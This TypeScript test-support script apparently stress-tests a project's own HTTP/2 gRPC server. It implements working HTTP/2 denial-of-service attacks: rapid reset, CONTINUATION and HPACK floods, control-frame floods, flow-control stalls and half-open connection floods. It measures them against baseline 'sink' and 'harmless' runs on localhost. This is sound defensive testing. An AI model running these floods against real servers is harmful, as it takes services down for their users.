/**
 * Attacks an HTTP/2 server from a process of its own, as fast as it can, until it is killed:
 *
 *   node test/support/h2-attacker.ts NAME PORT [tls]
 *
 * Says "attacking" when the first bytes have left. Under the name "sink" it is a server that reads and forgets, on a port that it
 * says: an attack on that costs the machine as much and the victim nothing. Under the name "harmless" it is a busy client. Both are what the
 * victim's times under attack are compared with.
 */
import net from "node:net";
import tls from "node:tls";
import { ExtProcClient, exchange } from "./epp-process.ts";
import { encodeRequest, headerMap } from "./extproc-client.ts";
import { framed } from "./grpc-client.ts";
import { field, frame, setting, u32 } from "./h2-peer.ts";

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1");
const [DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION] = [0, 1, 2, 3, 4, 6, 7, 8, 9];
const [END_STREAM, END_HEADERS] = [1, 4];
const INITIAL_WINDOW = 4;

const PATH = "/envoy.service.ext_proc.v3.ExternalProcessor/Process";
const CALL = Buffer.concat([
  Buffer.of(0x83, 0x86, 0x04, PATH.length),
  Buffer.from(PATH),
  field("content-type", "application/grpc"),
]);
/** The first message of a chat request, and its body. */
const ASK = framed(
  encodeRequest({
    requestHeaders: {
      headers: headerMap([
        [":method", "POST"],
        [":path", "/v1/chat/completions"],
      ]),
    },
  }),
);
const BODY = framed(
  encodeRequest({
    requestBody: {
      body: Buffer.from('{"model":"sim","messages":[{"role":"user","content":"hello"}]}'),
      endOfStream: true,
    },
  }),
);

const openCall = (id: number): Buffer => frame(HEADERS, END_HEADERS, id, CALL);
const values = (...pairs: readonly (readonly [number, number])[]): Buffer =>
  frame(SETTINGS, 0, 0, Buffer.concat(pairs.map(([id, value]) => setting(id, value))));
const repeat = (bytes: Buffer, size = 128 * 1024): Buffer =>
  Buffer.concat(Array.from({ length: Math.ceil(size / bytes.length) }, () => bytes));
const each = (from: number, count: number, make: (id: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, n) => make(from + 2 * n)));

/** What one connection sends: a beginning, then pieces of which `next` gives one after another. */
interface Attack {
  readonly begin?: Buffer;
  next(): Buffer | undefined;
  /** The answers are not read. */
  readonly deaf?: boolean;
  /** Connections at a time, 1 unless said otherwise. */
  readonly connections?: number;
  /** Not even a preface is sent. */
  readonly raw?: boolean;
}

const same = (bytes: Buffer): (() => Buffer) => {
  const piece = repeat(bytes);
  return () => piece;
};
/** Pieces of `count` streams each, with new ids every time. */
const streams = (count: number, make: (id: number) => Buffer, first = 1): (() => Buffer | undefined) => {
  let id = first;
  return () => {
    if (id > 2 ** 31 - 2 * count) return undefined;
    const piece = each(id, count, make);
    id += 2 * count;
    return piece;
  };
};
const once = (bytes: Buffer): (() => Buffer | undefined) => {
  let left: Buffer | undefined = bytes;
  return () => {
    const piece = left;
    left = undefined;
    return piece;
  };
};

const LARGE_ENTRY = Buffer.concat([
  Buffer.of(0x40, 1),
  Buffer.from("x"),
  Buffer.of(0x7f, 0xa0, 0x1e),
  Buffer.alloc(3999, 0x61),
]);

/** Every attack by its name. */
export const ATTACKS: Readonly<Record<string, () => Attack>> = {
  "settings over 10,000 streams": () => {
    const flood = values(...Array.from({ length: 2730 }, (_, n) => [INITIAL_WINDOW, 65_535 + n] as const));
    return { begin: each(1, 10_000, openCall), next: once(repeat(flood, 40 * flood.length)) };
  },
  "rapid reset": () => ({
    next: streams(500, (id) => Buffer.concat([openCall(id), frame(RST, 0, id, u32(8))])),
  }),
  "rapid reset of requests": () => ({
    next: streams(300, (id) =>
      Buffer.concat([openCall(id), frame(DATA, 0, id, Buffer.concat([ASK, BODY])), frame(RST, 0, id, u32(8))]),
    ),
  }),
  "continuation without end": () => ({ begin: frame(HEADERS, 0, 1, CALL), next: same(frame(CONTINUATION, 0, 1)) }),
  "continuation in pieces": () => ({
    next: streams(100, (id) =>
      Buffer.concat([
        frame(HEADERS, 0, id, CALL),
        repeat(frame(CONTINUATION, 0, id), 63 * 9),
        frame(CONTINUATION, END_HEADERS, id),
        frame(RST, 0, id, u32(8)),
      ]),
    ),
  }),
  ping: () => ({ next: same(frame(PING, 0, 0, Buffer.alloc(8))) }),
  settings: () => ({ next: same(values()) }),
  "empty frames": () => ({
    begin: openCall(1),
    next: same(
      Buffer.concat([
        frame(DATA, 0, 1),
        frame(PRIORITY, 0, 7, Buffer.alloc(5)),
        frame(0xee, 0, 0),
        frame(GOAWAY, 0, 0, Buffer.alloc(8)),
      ]),
    ),
  }),
  goaway: () => ({ begin: openCall(1), next: same(frame(GOAWAY, 0, 0, Buffer.alloc(8))) }),
  "window updates": () => ({ begin: openCall(1), next: same(frame(WINDOW, 0, 0, u32(1))) }),
  "zero windows": () => ({
    begin: values([INITIAL_WINDOW, 0]),
    next: streams(100, (id) => Buffer.concat([openCall(id), frame(DATA, 0, id, Buffer.concat([ASK, BODY]))])),
  }),
  "window churn": () => ({
    begin: Buffer.concat([
      values([INITIAL_WINDOW, 0]),
      frame(WINDOW, 0, 0, u32(1 << 30)),
      each(1, 1000, (id) => Buffer.concat([openCall(id), frame(DATA, 0, id, Buffer.concat([ASK, BODY]))])),
    ]),
    next: same(Buffer.concat([values([INITIAL_WINDOW, 1]), values([INITIAL_WINDOW, 0]), frame(WINDOW, 0, 1, u32(1))])),
  }),
  "hpack references": () => {
    const block = Buffer.concat([CALL, Buffer.alloc(2000, 0xbe)]);
    return {
      begin: frame(HEADERS, END_HEADERS | END_STREAM, 1, Buffer.concat([CALL, LARGE_ENTRY])),
      next: streams(60, (id) => frame(HEADERS, END_HEADERS | END_STREAM, id, block), 3),
    };
  },
  "hpack literals": () => {
    const block = Buffer.concat([CALL, repeat(field("x", "1234"), 15_900)]);
    return { next: streams(8, (id) => frame(HEADERS, END_HEADERS | END_STREAM, id, block)) };
  },
  "tiny messages": () => ({
    begin: openCall(1),
    next: streams(20, (id) => Buffer.concat([openCall(id), frame(DATA, 0, id, Buffer.alloc(16_380))]), 3),
  }),
  "slow reads": () => ({
    deaf: true,
    next: streams(100, (id) => Buffer.concat([openCall(id), frame(DATA, 0, id, Buffer.concat([ASK, BODY]))])),
  }),
  "20 connections of pings": () => ({ connections: 20, next: same(frame(PING, 0, 0, Buffer.alloc(8))) }),
  "half-open connections": () => ({ raw: true, connections: 2000, next: () => undefined }),
  "half-open greetings": () => ({ raw: true, connections: 2000, begin: PREFACE, next: () => undefined }),
};

/** Attacks on a server that speaks TLS. Behind a ClientHello comes silence. */
export const TLS_ATTACKS: readonly string[] = [
  "half-open connections",
  "client hellos",
  "ping",
  "rapid reset of requests",
];

/** What a client says first. */
function clientHello(): Promise<Buffer> {
  return new Promise((resolve) => {
    const server = net.createServer((socket) => {
      socket.on("error", () => {});
      socket.once("data", (bytes: Buffer) => {
        resolve(bytes);
        socket.destroy();
        server.close();
      });
    });
    server.listen(0, "127.0.0.1", () => {
      const { port } = server.address() as net.AddressInfo;
      tls.connect({ port, host: "127.0.0.1", ...H2 }).on("error", () => {});
    });
  });
}

const H2 = { ALPNProtocols: ["h2"], rejectUnauthorized: false };

/** Half-open ones go on for ever: the oldest is dropped for a new one, and so is the attacker's own when it has many. */
let source = 0;
function run(make: () => Attack, port: number, secure: boolean): void {
  const attack = make();
  // Of some thousand addresses, since there are only 28,000 ports for each.
  source = (source + 1) % 4000;
  const localAddress = `127.0.${1 + (source >> 8)}.${1 + (source & 0x7f)}`;
  const from = { port, host: "127.0.0.1", localAddress };
  const socket = secure ? tls.connect({ ...from, ...H2 }) : net.connect(from);
  let over = false;
  const again = (): void => {
    if (over) return;
    over = true;
    socket.destroy();
    setImmediate(() => run(make, port, secure));
  };
  const pump = (): void => {
    for (;;) {
      const piece = attack.next();
      if (piece === undefined || socket.destroyed) return;
      // Once more, when this has left: a loop without end would never hear of the end of the connection.
      if (!socket.write(piece)) return;
    }
  };
  socket.on("error", again);
  socket.on("close", again);
  socket.on("drain", pump);
  socket.on(secure ? "secureConnect" : "connect", () => {
    if (attack.deaf) socket.pause();
    else socket.resume();
    if (attack.raw !== true) socket.write(Buffer.concat([PREFACE, values()]));
    if (attack.begin !== undefined) socket.write(attack.begin);
    opened++;
    if (opened === 1) process.stdout.write("attacking\n");
    if (opened % 1000 === 0) process.stdout.write(`opened ${opened}\n`);
    pump();
  });
}
let opened = 0;

/** What a busy proxy does: 64 exchanges at a time, each to its end. */
async function harmless(port: number, tls: boolean): Promise<void> {
  const client = await ExtProcClient.connect(port, { tls });
  process.stdout.write("attacking\n");
  const worker = async (): Promise<void> => {
    for (;;) await exchange(client);
  };
  await Promise.all(Array.from({ length: 64 }, worker));
}

/** As a victim does: what is too old, or has said too much, is closed. */
function sink(): void {
  const held: net.Socket[] = [];
  const server = net.createServer((socket) => {
    let read = 0;
    socket.on("error", () => {});
    socket.on("data", (bytes: Buffer) => {
      read += bytes.length;
      if (read > 1 << 20) socket.destroy();
    });
    held.push(socket);
    if (held.length > 1000) held.shift()!.destroy();
  });
  server.listen(0, "127.0.0.1", () => {
    process.stdout.write(`listening name=sink address=127.0.0.1:${(server.address() as net.AddressInfo).port} pid=1\n`);
  });
}

if (import.meta.main) {
  const [name = "", port = "0", more] = process.argv.slice(2);
  let make = ATTACKS[name];
  if (name === "client hellos") {
    const begin = await clientHello();
    make = () => ({ raw: true, connections: 200, begin, next: () => undefined });
  }
  if (name === "sink") sink();
  else if (name === "harmless") await harmless(Number(port), more === "tls");
  else if (make === undefined) throw new Error(`no attack ${name}`);
  else
    for (let n = 0; n < (make().connections ?? 1); n++) run(make, Number(port), more === "tls" && make().raw !== true);
}
